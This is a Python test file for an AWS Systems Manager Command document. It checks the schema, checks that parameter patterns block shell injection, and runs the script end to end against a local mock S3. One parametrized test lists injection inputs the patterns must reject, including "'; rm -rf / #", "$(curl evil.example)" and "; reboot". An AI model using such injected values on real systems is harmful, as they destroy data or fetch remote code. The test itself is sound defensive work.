"""The Systems Manager Command document: its structure against SSM's schema 2.2 essentials, its parameters'
guards against shell injection, and its shell body run end to end as SSM would run it.

The end-to-end run happens inside a network namespace with only loopback: moto's server there is the S3 the
instances upload to (and where the single-file build is fetched from), a loopback web server answers the IMDS
instance-id path, and the AWS CLI (v1, from PyPI, in its own venv) is the one uploading.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import hermetic_env, need

REPO = Path(__file__).resolve().parent.parent
DOCUMENT = REPO / "deploy" / "ssm" / "ecrdoctor-check.json"
BODY = REPO / "deploy" / "ssm" / "ecrdoctor-check.sh"
PARAMETER_TYPES = {"String", "StringList", "Boolean", "Integer", "MapList", "StringMap"}
IMAGE = "123456789012.dkr.ecr.us-east-1.amazonaws.com/team/app:1.4"


@pytest.fixture(scope="module")
def document() -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(DOCUMENT.read_text())
    return doc


def test_the_document_is_what_the_builder_writes_from_the_shell_body() -> None:
    out = subprocess.run([sys.executable, str(REPO / "scripts" / "build-ssm-document"), "--check"],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr


def test_schema_2_2_essentials(document: dict[str, Any]) -> None:
    assert document["schemaVersion"] == "2.2"
    assert isinstance(document["description"], str) and document["description"]
    assert set(document) <= {"schemaVersion", "description", "parameters", "mainSteps"}
    steps = document["mainSteps"]
    assert isinstance(steps, list) and steps
    names = [s["name"] for s in steps]
    assert len(set(names)) == len(names)
    for step in steps:
        assert set(step) <= {"action", "name", "precondition", "inputs"}
        assert step["action"] == "aws:runShellScript"
        assert re.fullmatch(r"[A-Za-z0-9_.-]{1,100}", step["name"])
        assert step["precondition"] == {"StringEquals": ["platformType", "Linux"]}
        inputs = step["inputs"]
        assert set(inputs) <= {"runCommand", "workingDirectory", "timeoutSeconds"}
        assert all(isinstance(line, str) for line in inputs["runCommand"])
        assert inputs["timeoutSeconds"].isdigit() and 1 <= int(inputs["timeoutSeconds"]) <= 172800
    for name, spec in document["parameters"].items():
        assert re.fullmatch(r"[A-Za-z0-9_]+", name)
        assert spec["type"] in PARAMETER_TYPES
        assert spec["description"]
        pattern = re.compile(spec["allowedPattern"])
        if "default" in spec:
            assert pattern.search(spec["default"]), f"{name}'s default fails its own allowedPattern"


def test_every_parameter_is_used_and_every_placeholder_declared(document: dict[str, Any]) -> None:
    text = "\n".join(line for step in document["mainSteps"] for line in step["inputs"]["runCommand"])
    used = set(re.findall(r"\{\{\s*(\w+)\s*\}\}", text))
    assert used == set(document["parameters"])


@pytest.mark.parametrize("name, value", [
    ("Image", "team/app:1.4'; rm -rf / #"),
    ("Image", "$(curl evil.example)"),
    ("Image", "team/app:1.4 --root /"),
    ("S3Prefix", "s3://bucket/x'y"),
    ("S3Prefix", "https://bucket.s3.amazonaws.com/x"),
    ("InstallSource", "pip:ecrdoctor; reboot"),
    ("InstallSource", "curl:https://x"),
    ("Timeout", "30;reboot"),
])
def test_parameters_refuse_what_could_break_out_of_the_shell(document: dict[str, Any], name: str,
                                                             value: str) -> None:
    assert not re.search(document["parameters"][name]["allowedPattern"], value)


@pytest.mark.parametrize("name, value", [
    ("Image", IMAGE),
    ("Image", "123456789012.dkr.ecr.us-east-1.amazonaws.com/docker-hub/library/nginx@sha256:" + "a" * 64),
    ("Image", ""),
    ("S3Prefix", "s3://my-bucket/ecrdoctor/2026-11-27"),
    ("InstallSource", "pyz:s3://my-bucket/dist/ecrdoctor.pyz"),
    ("InstallSource", "pip:ecrdoctor==0.1.0"),
])
def test_parameters_accept_real_values(document: dict[str, Any], name: str, value: str) -> None:
    assert re.search(document["parameters"][name]["allowedPattern"], value)


def render(document: dict[str, Any], values: dict[str, str]) -> str:
    """What SSM hands the shell: the runCommand lines with each {{ Parameter }} replaced by its value."""
    lines = [line for step in document["mainSteps"] for line in step["inputs"]["runCommand"]]
    text = "\n".join(lines) + "\n"
    for name, spec in document["parameters"].items():
        value = values.get(name, spec.get("default", ""))
        assert re.search(spec["allowedPattern"], value), (name, value)
        text = re.sub(r"\{\{\s*" + name + r"\s*\}\}", value, text)
    return text


DRIVER = r"""
set -eu
trap 'kill $(jobs -p) 2>/dev/null || true' EXIT
ip link set lo up
export PATH="$AWSCLI_BIN:$PATH"
"$MOTO_SERVER" -H 127.0.0.1 -p 5077 > "$WORK/moto.log" 2>&1 &
"$PYTHON" -m http.server 5078 --bind 127.0.0.1 --directory "$WORK/imds" > "$WORK/imds.log" 2>&1 &
for _ in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:5077/moto-api/ && curl -s -o /dev/null \
    http://127.0.0.1:5078/ && break; sleep 0.1; done
aws s3 mb s3://fleet-diagnostics >/dev/null
aws s3 cp --only-show-errors "$PYZ" s3://fleet-diagnostics/dist/ecrdoctor.pyz
status=0
timeout 120 bash "$WORK/ssm-body.sh" > "$WORK/ssm.out" 2> "$WORK/ssm.err" || status=$?
echo "ssm exit $status" >> "$WORK/ssm.out"
aws s3 ls --recursive s3://fleet-diagnostics/ > "$WORK/listing.txt"
mkdir -p "$WORK/fetched"
aws s3 cp --only-show-errors --recursive s3://fleet-diagnostics/run-1/ "$WORK/fetched/"
"""


def _awscli_bin() -> Path:
    found = os.environ.get("ECRDOCTOR_AWSCLI_BIN") or str(REPO / ".venv-awscli" / "bin")
    need("the AWS CLI v1 venv (scripts/install-test-deps makes .venv-awscli)", (Path(found) / "aws").exists())
    return Path(found)


def test_the_shell_body_uploads_a_report_and_a_bundle_per_instance(document: dict[str, Any], tmp_path: Path,
                                                                  pyz: Path) -> None:
    need("unshare -n and ip (a loopback-only network namespace)",
         shutil.which("unshare") is not None and shutil.which("ip") is not None)
    moto = Path(sys.executable).parent / "moto_server"
    need("moto_server", moto.exists())
    awscli = _awscli_bin()
    work = tmp_path / "work"
    (work / "imds/latest/meta-data").mkdir(parents=True)
    (work / "imds/latest/meta-data/instance-id").write_text("i-0fedcba9876543210")
    home = tmp_path / "home"
    (home / ".docker").mkdir(parents=True)
    (home / ".docker/config.json").write_text("{}")  # docker has no way to log in to ECR on this "instance"
    (work / "ssm-body.sh").write_text(render(document, {
        "Image": IMAGE, "S3Prefix": "s3://fleet-diagnostics/run-1",
        "InstallSource": "pyz:s3://fleet-diagnostics/dist/ecrdoctor.pyz", "Timeout": "20"}))
    env = hermetic_env(home)
    env.update(WORK=str(work), PYZ=str(pyz), MOTO_SERVER=str(moto), AWSCLI_BIN=str(awscli), PYTHON=sys.executable,
               AWS_ENDPOINT_URL="http://127.0.0.1:5077", AWS_ACCESS_KEY_ID="AKIAFLEETTEST0000001",
               AWS_SECRET_ACCESS_KEY="fleet-test-secret", AWS_DEFAULT_REGION="us-east-1",
               AWS_EC2_METADATA_SERVICE_ENDPOINT="http://127.0.0.1:5078/")
    env.pop("AWS_EC2_METADATA_DISABLED", None)
    out = subprocess.run(["unshare", "-n", "bash", "-c", DRIVER], env=env, capture_output=True, text=True,
                         timeout=240)
    ssm_out = (work / "ssm.out").read_text() if (work / "ssm.out").exists() else ""
    ssm_err = (work / "ssm.err").read_text() if (work / "ssm.err").exists() else ""
    assert out.returncode == 0, out.stderr + ssm_out + ssm_err
    assert "ssm exit 0" in ssm_out, ssm_out + ssm_err
    assert "ecrdoctor-check: i-0fedcba9876543210: " in ssm_out
    listing = (work / "listing.txt").read_text()
    assert "run-1/i-0fedcba9876543210/report.json" in listing
    assert "run-1/i-0fedcba9876543210/bundle.tar.gz" in listing
    report = json.loads((work / "fetched/i-0fedcba9876543210/report.json").read_text())
    assert report["target"]["image"] == IMAGE
    assert "docker.credentials" in report["diagnosis"]
    with tarfile.open(work / "fetched/i-0fedcba9876543210/bundle.tar.gz") as tar:
        assert "manifest.json" in tar.getnames()
    assert "fleet-test-secret" not in (work / "fetched/i-0fedcba9876543210/report.json").read_text()
    # and the fleet view of what was uploaded
    from ecrdoctor.aggregate import aggregate

    fleet = aggregate([str(work / "fetched")])
    assert fleet.reports == 1 and fleet.ranked_causes()[0][1].examples == ["i-0fedcba9876543210"]
